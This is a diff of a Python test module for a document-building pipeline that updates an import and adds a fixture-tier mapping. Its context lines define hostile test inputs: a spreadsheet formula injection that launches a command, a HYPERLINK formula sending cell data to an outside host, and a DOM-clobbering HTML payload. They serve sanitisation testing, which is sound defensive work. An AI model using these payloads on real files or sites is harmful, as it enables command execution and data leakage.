@@ -19,7 +19,7 @@ import pytest
 
 from briefing.pipeline import Paths
 from tests.bypass import build_unchecked
-from tests.conftest import copy_project
+from tests.helpers import copy_project
 from tests.html.elements import Elements
 from tests.html.elements import parse as parse_page
 
@@ -32,6 +32,9 @@ FORMULA_SUMMARY = '=HYPERLINK("https://example.org/?"&A1,"Details")'
 FORMULA_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
 NFC_NAME = "파블로다르 합금철 플랜트"
 CLOBBER = '<div id="__config" hidden>{"base": "https://example.org", "search": "https://example.org/s.js"}</div>'
+
+
+FIXTURE_TIERS = {"hostile": "build"}  # tests/conftest.py: the tier of a test using it
 
 
 @pytest.fixture(scope="module")
